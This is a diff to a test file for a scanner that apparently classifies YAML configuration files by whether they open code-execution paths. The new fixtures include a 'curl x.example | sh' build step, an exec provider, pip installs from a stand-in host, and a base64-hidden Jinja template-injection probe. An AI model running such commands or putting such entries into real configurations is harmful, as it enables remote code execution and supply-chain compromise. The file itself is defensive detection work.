@@ -83,6 +83,27 @@ describe("a configuration", () => {
     expect(verdict("trust_remote_code: yes\n", "c.yaml")).toBe("suspicious");
     expect(verdict("auto_map: &x { AutoModel: a.B }\n", "c.yaml")).toBe("unknown");
   });
+  test.each([
+    ["commands of a build", "build:\n  run:\n    - curl x.example | sh\n"],
+    ["a step of an action", "runs:\n  steps:\n    - run: ./setup.sh now\n"],
+    ["a provider that is a program", "providers:\n  - exec:python evil.py\n"],
+    ["packages at an address", "dependencies:\n  - pip:\n      - https://x.example/a.tar.gz\n"],
+    ["a package beside it", "dependencies:\n  - ./evil_pkg\n"],
+    ["options of an installer", "dependencies:\n  - pip:\n      - --extra-index-url=https://x.example\n"],
+    ["another channel", "channels:\n  - somebody\ndependencies:\n  - python=3.11\n"],
+    ["remote code in an argument", "model_args: pretrained=a/b,trust_remote_code=True\n"],
+  ])("in YAML with %s is unknown", (_, text) => expect(scanned(utf8(text), "any.yaml").verdict).toBe("unknown"));
+  test.each([
+    [
+      "packages of an index",
+      "channels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n      - torch==2.1\n",
+    ],
+    ["words like commands", "command: train\nrun: nightly\nscript: latin\nsetup: default\n"],
+  ])("in YAML with %s is fine", (_, text) =>
+    expect(scanned(utf8(text), "any.yaml").verdict).toBe("no code path found"),
+  );
+  test("in YAML whose text stands in binary is followed", () =>
+    expect(scanned(utf8(`chat_template: !!binary ${btoa("{{ x.__mro__ }}")}\n`), "t.yaml").verdict).toBe("malicious"));
   test("in YAML whose aliases make more of it than is there is unknown, at once", () => {
     const lines = Array.from({ length: 30 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}, *a${i}]`);
     expect(verdict(["a0: &a0 [x]", ...lines].join("\n"), "c.yaml")).toBe("unknown");
